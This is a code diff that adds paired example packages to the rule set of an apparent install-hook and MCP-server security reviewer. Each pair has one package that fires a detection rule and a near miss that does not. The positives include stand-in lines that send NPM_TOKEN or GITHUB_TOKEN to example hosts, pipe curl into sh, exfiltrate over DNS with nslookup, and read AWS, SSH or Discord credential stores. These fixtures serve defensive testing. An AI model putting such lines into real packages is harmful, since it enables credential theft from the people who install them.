@@ -13,7 +13,8 @@ stays quiet on the second (tests/test_review_rules.py runs every pair).
 
 from __future__ import annotations
 
-from dataclasses import dataclass, field
+import json
+from dataclasses import dataclass, field, replace
 from typing import Literal
 
 Axis = Literal["capability", "indicator"]
@@ -765,6 +766,300 @@ RULES: tuple[Rule, ...] = (
         "어떤 호스트와 통신하거나 그 이름을 담고 있습니다",
     ),
 )
+
+
+# -- examples: tiny packages, one that fires the rule and a near miss that must not ---------------
+# Two tokens stand for content too big to print: a file padded past the reviewer's byte limit,
+# and Python with more names than the parser takes. `example_files` expands them.
+PAD_BYTES = "<padded past the reviewer's byte limit>"
+PAD_NAMES = "<more names than the parser takes>"
+
+
+def example_files(files: dict[str, str]) -> dict[str, str]:
+    """An example's files with the padding tokens expanded (for writing them out)."""
+    from hooklab.review.archive import MAX_FILE_BYTES
+    from hooklab.review.pyscan import MAX_AST_WORDS
+
+    return {
+        name: text.replace(PAD_BYTES, "/" * (MAX_FILE_BYTES + 16)).replace(
+            PAD_NAMES, "x = 1\n" * (MAX_AST_WORDS // 2 + 16)
+        )
+        for name, text in files.items()
+    }
+
+
+def _pkg(name: str = "demo", **fields: object) -> str:
+    return json.dumps({"name": name, "version": "1.0.0", **fields})
+
+
+def _hook(code: str, stage: str = "postinstall", file: str = "setup.js") -> dict[str, str]:
+    """An npm package whose `stage` script runs `file` with node."""
+    return {"package.json": _pkg(scripts={stage: f"node {file}"}), file: code}
+
+
+def _script(command: str, **files: str) -> dict[str, str]:
+    return {"package.json": _pkg(scripts={"postinstall": command}), **files}
+
+
+def _js(code: str, name: str = "demo") -> dict[str, str]:
+    return {"package.json": _pkg(name), "index.js": code}
+
+
+def _mcp(code: str, name: str = "demo-mcp") -> dict[str, str]:
+    deps = {"@modelcontextprotocol/sdk": "1.0.0"}
+    return {"package.json": _pkg(name, dependencies=deps), "index.js": code}
+
+
+def _deps(**deps: str) -> dict[str, str]:
+    return {"package.json": _pkg(dependencies=deps)}
+
+
+def _py(code: str) -> dict[str, str]:
+    return {
+        "pyproject.toml": '[project]\nname = "demo"\nversion = "1.0"\n',
+        "demo/__init__.py": code,
+    }
+
+
+def _pymcp(code: str) -> dict[str, str]:
+    return _py("import os\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP('d')\n" + code)
+
+
+_CP = "const cp = require('child_process');\n"
+_FS = "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
+_HTTPS = "const https = require('https');\n"
+_SETUP = "from setuptools import setup\n"
+_GYP = '{"targets": [{"target_name": "a", "sources": ["a.cc"]}]}'
+_TOOL = "@mcp.tool()\ndef status() -> str:\n"
+
+EXAMPLES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
+    "install.preinstall": (_hook("1;", "preinstall"), _hook("1;", "test")),
+    "install.install": (_hook("1;", "install"), _hook("1;", "start")),
+    "install.postinstall": (_hook("1;"), _hook("1;", "build")),
+    "install.prepare": (_hook("1;", "prepare"), _hook("1;", "prepack")),
+    "install.uninstall": (_hook("1;", "postuninstall"), _hook("1;", "posttest")),
+    "install.node-gyp": (
+        {"package.json": _pkg(), "binding.gyp": _GYP},
+        {"package.json": _pkg(scripts={"install": "node-gyp-build"}), "binding.gyp": _GYP},
+    ),
+    "install.gyp-command": (
+        {"package.json": _pkg(), "binding.gyp": _GYP.replace("a.cc", "<!(sh make.sh)")},
+        {"package.json": _pkg(), "binding.gyp": _GYP},
+    ),
+    "install.setup.py": ({"setup.py": _SETUP + "setup(name='d')\n"}, _py("X = 1\n")),
+    "install.build-backend": (
+        {
+            "pyproject.toml": '[build-system]\nbuild-backend = "backend"\nbackend-path = ["_b"]\n',
+            "_b/backend.py": "def build_wheel(*a):\n    return 'x.whl'\n",
+        },
+        {"pyproject.toml": '[build-system]\nbuild-backend = "hatchling.build"\n'},
+    ),
+    "install.hatch-hook": (
+        {
+            "pyproject.toml": '[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n',
+            "hatch_build.py": "X = 1\n",
+        },
+        {"pyproject.toml": '[tool.hatch.build]\nexclude = ["tests"]\n'},
+    ),
+    "install.cmdclass": (
+        {"setup.py": _SETUP + "class B: pass\nsetup(cmdclass={'build_py': B})\n"},
+        {"setup.py": _SETUP + "setup(name='d')\n"},
+    ),
+    "install.cmdclass-egg-info": (
+        {"setup.py": _SETUP + "class E: pass\nsetup(cmdclass={'egg_info': E})\n"},
+        {"setup.py": _SETUP + "class B: pass\nsetup(cmdclass={'build_py': B})\n"},
+    ),
+    "install.pth": ({"demo.pth": "import os; os.getcwd()\n"}, {"demo.pth": "/opt/demo/lib\n"}),
+    "install.limit": ({"demo/big.py": PAD_NAMES}, {"demo/small.py": "x = 1\n"}),
+    "install.unread": (_hook(PAD_BYTES), _hook("1;")),
+    "install.unread-other": (
+        {"package.json": _pkg(), "dist/big.js": PAD_BYTES},
+        {"package.json": _pkg(), "dist/small.js": "1;"},
+    ),
+    "install.script-network": (
+        _script("curl -o data.bin https://dl.example.com/data.bin"),
+        _script("node setup.js", **{"setup.js": "1;"}),
+    ),
+    "install.script-eval": (_script("sh -c 'echo hi'"), _script("echo hi")),
+    "install.download": (
+        _hook(_HTTPS + "https.get('https://dl.example.com/bin');\n"),
+        _hook("const url = 'https://dl.example.com/bin';\n"),
+    ),
+    "install.network": (
+        _hook(_HTTPS + "https.get(process.argv[2]);\n"),
+        _js(_HTTPS + "https.get(process.argv[2]);\n"),
+    ),
+    "install.exec": (
+        _hook(_CP + "cp.execFileSync('make', []);\n"),
+        _js(_CP + "cp.execFileSync('make', []);\n"),
+    ),
+    "install.eval": (_hook("eval(process.argv[2]);\n"), _js("eval(process.argv[2]);\n")),
+    "install.file-write": (
+        _hook(_FS + "fs.mkdirSync('build');\n"),
+        _js(_FS + "fs.mkdirSync('build');\n"),
+    ),
+    "install.write-outside": (
+        _hook(_FS + "fs.writeFileSync(path.join(os.homedir(), '.demo'), 'x');\n"),
+        _hook(_FS + "fs.writeFileSync(path.join(__dirname, 'out.txt'), 'x');\n"),
+    ),
+    "install.read-outside": (
+        _hook(_FS + "fs.readFileSync(path.join(os.homedir(), 'demo.txt'));\n"),
+        _hook(_FS + "fs.readFileSync(path.join(__dirname, 'demo.txt'));\n"),
+    ),
+    "install.file-read": (
+        _hook(_FS + "fs.readFileSync('demo.txt');\n"),
+        _js(_FS + "fs.readFileSync('demo.txt');\n"),
+    ),
+    "install.env-read": (
+        _hook("const ci = process.env.CI;\n"),
+        _js("const ci = process.env.CI;\n"),
+    ),
+    "install.listen": (
+        _hook("require('http').createServer().listen(8080, '0.0.0.0');\n"),
+        _hook("require('http').createServer().listen(8080, '127.0.0.1');\n"),
+    ),
+    "install.credential-path": (
+        _hook("const rc = '~/.npmrc';\n"),
+        _js("const rc = '~/.npmrc';\n"),
+    ),
+    "install.env-dump": (
+        _hook("const all = JSON.stringify(process.env);\n"),
+        _hook("const ci = process.env.CI;\n"),
+    ),
+    "install.secret-to-network": (
+        _hook(_HTTPS + "https.get('https://e.example/?t=' + process.env.NPM_TOKEN);\n"),
+        _hook(_HTTPS + "https.get('https://e.example/?ci=' + process.env.CI);\n"),
+    ),
+    "install.download-exec": (
+        _script("curl -s https://get.example.com/i.sh | sh"),
+        _script("curl -s -o i.sh https://get.example.com/i.sh"),
+    ),
+    "install.second-runtime": (
+        _script("npx bun run payload.js", **{"payload.js": "1;"}),
+        _script("node payload.js", **{"payload.js": "1;"}),
+    ),
+    "install.self-delete": (
+        _hook(_FS + "fs.unlinkSync(__filename);\n"),
+        _hook(_FS + "fs.unlinkSync(path.join(__dirname, 'tmp.txt'));\n"),
+    ),
+    "install.native-binary": (
+        _script("./bin/setup", **{"bin/setup": "ELF"}),
+        _script("./bin/setup.sh", **{"bin/setup.sh": "echo hi\n"}),
+    ),
+    "install.oversize": (
+        {"setup.py": PAD_NAMES + _SETUP + "setup(name='d')\n"},
+        {"setup.py": _SETUP + "setup(name='d')\n"},
+    ),
+    "secrets.credential-path": (
+        _js("const p = path.join(os.homedir(), '.aws', 'credentials');\n"),
+        _js("const console = 'https://console.aws.amazon.com/iam';\n"),
+    ),
+    "secrets.env-dump": (
+        _js("const names = Object.keys(process.env);\n"),
+        _js("const home = process.env.HOME;\n"),
+    ),
+    "secrets.sensitive-env": (
+        _js("const t = process.env.GITHUB_TOKEN;\n"),
+        _js("const m = process.env.MASK_SECRETS;\n"),
+    ),
+    "secrets.flow-to-network": (
+        _js("const t = process.env.GITHUB_TOKEN;\nfetch('https://collect.example.net/', t);\n"),
+        _js(
+            "const key = process.env.ACME_API_KEY;\nfetch('https://api.acme.example/v1', key);\n",
+            "acme-mcp",
+        ),
+    ),
+    "secrets.flow-to-tool-output": (
+        _pymcp(_TOOL + "    return os.environ['GITHUB_TOKEN']\n"),
+        _pymcp(_TOOL + "    return 'ok'\n"),
+    ),
+    "secrets.other-app-store": (
+        _js("const db = 'AppData/Roaming/discord/Local Storage/leveldb';\n"),
+        _js("const db = 'AppData/Roaming/demo/settings.json';\n"),
+    ),
+    "secrets.autostart-write": (
+        _js(_FS + "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'x');\n"),
+        _js(_FS + "fs.readFileSync(path.join(os.homedir(), '.bashrc'));\n"),
+    ),
+    "network.outbound": (_js("fetch(process.argv[2]);\n"), _js("fetchData(process.argv[2]);\n")),
+    "network.all-interfaces": (
+        _js("app.listen(3000, '0.0.0.0');\n"),
+        _js("app.listen(3000, '127.0.0.1');\n"),
+    ),
+    "network.server": (_js("app.listen(3000, host);\n"), _js("app.close();\n")),
+    "network.default-host": (
+        _js("app.listen(3000);\n"),
+        _js("app.listen(3000, '127.0.0.1');\n"),
+    ),
+    "network.dns-exfil": (
+        {"package.json": _pkg(), "run.sh": "nslookup $(whoami).x.example\n"},
+        {"package.json": _pkg(), "run.sh": "nslookup example.com\n"},
+    ),
+    "file.sensitive-path": (
+        _js(_FS + "fs.readFileSync(path.join(os.homedir(), '.ssh', 'config'));\n"),
+        _js("const hint = 'put your key in ~/.ssh';\n"),
+    ),
+    "file.tool-file-access": (
+        _pymcp(_TOOL + "    return open('notes.txt').read()\n"),
+        _pymcp(_TOOL + "    return 'ok'\n"),
+    ),
+    "exec.mcp-runs-commands": (
+        _mcp(_CP + "cp.execFileSync('git', ['status']);\n"),
+        _mcp(_CP + "const version = cp.version;\n"),
+    ),
+    "exec.shell": (_js(_CP + "cp.execSync('ls');\n"), _js(_CP + "cp.execFileSync('ls', []);\n")),
+    "exec.child-process": (
+        _js(_CP + "cp.execFileSync('ls', []);\n"),
+        _js("const spawn = (x) => x;\nspawn(1);\n"),
+    ),
+    "exec.dynamic-code": (
+        _js("eval(process.argv[2]);\n"),
+        _js("const t = await page.$eval('h1', (el) => el.textContent);\n"),
+    ),
+    "exec.safety-off-by-default": (
+        _js("const ro = process.env.READ_ONLY === 'true';\n"),
+        _js("const ro = process.env.READ_ONLY !== 'false';\n"),
+    ),
+    "exec.alias": (_py("run = exec\nrun('1')\n"), _py("run = print\nrun('1')\n")),
+    "exec.encoded-command": (
+        _py("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
+        _py("import base64\ndata = base64.b64decode('cHJpbnQoMSk=')\nprint(len(data))\n"),
+    ),
+    "output.secret-in-tool-output": (
+        _pymcp(_TOOL + "    return os.environ.get('HOME', '')\n"),
+        _pymcp("HOME = os.environ.get('HOME', '')\n" + _TOOL + "    return 'ok'\n"),
+    ),
+    "output.env-dump": (
+        _mcp("const report = { env: process.env };\n"),
+        _mcp(_CP + "cp.spawn('git', args, {\n  cwd,\n  env: process.env,\n});\n"),
+    ),
+    "output.stdout-on-stdio": (
+        _mcp("server.connect(new StdioServerTransport());\nconsole.log('ready');\n"),
+        _mcp("if (sse) {\n  startSSEServer(server);\n  console.log('SSE server started');\n}\n"),
+    ),
+    "output.masks-secrets": (
+        _mcp("const out = redact(result);\n"),
+        _mcp("const out = result;\n"),
+    ),
+    "supply.known-incident": (
+        _deps(**{"event-stream": "3.3.6"}),
+        _deps(**{"event-stream": "4.0.1"}),
+    ),
+    "supply.url-dependency": (
+        _deps(x="git+https://github.com/a/x.git"),
+        _deps(x="^1.2.3"),
+    ),
+    "supply.look-alike-name": (_deps(expresss="1.0.0"), _deps(express="4.0.0")),
+    "supply.exfil-host": (
+        _js("fetch('https://api.telegram.org/bot1:a/sendMessage');\n"),
+        _js("fetch('https://api.telegram.org/bot1:a/sendMessage');\n", "telegram-notify"),
+    ),
+    "supply.third-party-url": (
+        _js("fetch('https://api.example.com/');\n"),
+        _js("fetch('http://localhost:3000/');\n"),
+    ),
+}
+RULES = tuple(replace(r, positive=EXAMPLES[r.id][0], benign=EXAMPLES[r.id][1]) for r in RULES)
 BY_ID: dict[str, Rule] = {r.id: r for r in RULES}
 
 
